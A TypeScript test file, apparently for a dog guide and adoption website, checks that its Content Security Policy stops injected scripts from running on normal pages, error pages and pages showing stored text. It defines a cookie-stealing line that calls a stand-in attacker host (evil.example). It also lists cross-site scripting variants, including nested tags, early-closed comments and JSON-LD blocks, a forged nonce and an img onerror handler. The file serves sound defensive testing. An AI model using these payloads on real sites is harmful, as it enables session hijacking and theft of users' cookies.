import { createHash } from "node:crypto";
import { createElement, type ReactNode } from "react";
import { describe, expect, test } from "vitest";
import { makeDog, makeGuide, makeKennel } from "#test/make.ts";
import { serveBuild } from "#test/serving.ts";
import { renderPage } from "./render-page.ts";

/** Simulates a bug that lets markup through: the policy must still keep it from running. */
const markup = (html: string) =>
	// biome-ignore lint/security/noDangerouslySetInnerHtml: this is the attack
	createElement("div", { dangerouslySetInnerHTML: { __html: html } });
const code = "fetch('//evil.example/'+document.cookie)";

function allowedBy(policy: string): Set<string> {
	return new Set(/script-src ([^;]*)/.exec(policy)?.[1]?.split(" "));
}

/** What the framework needs to begin a page, as a policy names it. */
function framework(html: string): Set<string> {
	const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)]
		.map(([, text = ""]) => text)
		.filter((text) => /__reactRouter|react-router-scroll/.test(text));
	expect(scripts.length).toBeGreaterThan(2);
	const hashes = scripts.map((text) => createHash("sha256").update(text).digest("base64"));
	return new Set(["'self'", ...hashes.map((hash) => `'sha256-${hash}'`)]);
}

const injections: [name: string, content: ReactNode][] = [
	["a plain script", markup(`<script>${code}</script>`)],
	["capital letters", markup(`<SCRIPT >${code}</SCRIPT>`)],
	["attributes", markup(`<script type="module" async="" data-a=">">${code}</script>`)],
	["a name from the template", markup(`<script type="later">${code}</script>`)],
	["a nonce of its own", markup(`<script nonce="AAAAAAAAAAAAAAAAAAAAAA">${code}</script>`)],
	["an open attribute before it", markup(`<script a="><script>${code}</script>`)],
	["a tag in a tag", markup(`<scr<script>${code}</script>ipt>${code}</script>`)],
	["a component's own script", createElement("script", null, code)],
	[
		"structured data that is closed early",
		markup(`<script type="application/ld+json">{}</script><script>${code}</script>`),
	],
	["a comment that is closed early", markup(`<!-- --><script>${code}</script>`)],
	["a picture that fails", markup(`<img src=x onerror="${code}">`)],
];

describe.each([
	["page", { fails: false }],
	["page of an error", { fails: true }],
])("on a %s", (_, options) => {
	test.each(injections)("%s does not run", async (_, content) => {
		const { html, policy, status, again } = await renderPage(content, options);
		expect(status).toBe(options.fails ? 404 : 200);
		expect(html).toContain(code.replaceAll("'", html.includes("&#x27;") ? "&#x27;" : "'"));
		expect(allowedBy(policy)).toEqual(framework(html));
		expect(policy).not.toMatch(/nonce|unsafe/);
		// The page is the same for everyone: it contains nothing specific to one rendering.
		if (!html.includes("AAAAAAAAAAAAAAAAAAAAAA")) expect(html).not.toContain("nonce=");
		expect(again).toEqual({ html, policy });
	});
});

describe("stored", () => {
	const hostile = [
		`<script>${code}</script>`,
		`</script><SCRIPT data-a=">">${code}</SCRIPT>`,
		`"}</script><script type="module">${code}</script>`,
		`<!--<script>${code}`,
	];
	const site = serveBuild(async () => {
		for (const [at, text] of hostile.entries()) {
			const title = `Guide ${at} ${text}`.slice(0, 100);
			await makeGuide({ title, shortDescription: text, body: text }, { cover: false });
			await makeDog({ name: `Dog ${at} ${text}`.slice(0, 80), description: text });
			await makeKennel({ kennelName: `Kennel ${at} ${text}`, kennelAbout: text }, { logo: false });
		}
	});

	test.each(["/guides", "/adoption-network", "/breeder-network"])(
		"no stored text runs on a page below %s",
		async (list) => {
			const { text } = await site.ask(list);
			const found = [
				...text.matchAll(new RegExp(`href="(${list}/(?:guide|dog|kennel)-[^"/]+)"`, "g")),
			];
			const paths = new Set([list, ...found.map(([, path = ""]) => path)]);
			expect(paths.size).toBe(hostile.length + 1);
			for (const path of paths) {
				const reply = await site.ask(path);
				expect(reply.status, path).toBe(200);
				const policy = reply.headers["content-security-policy"] ?? "";
				expect(allowedBy(policy), path).toEqual(framework(reply.text));
			}
		},
	);
});
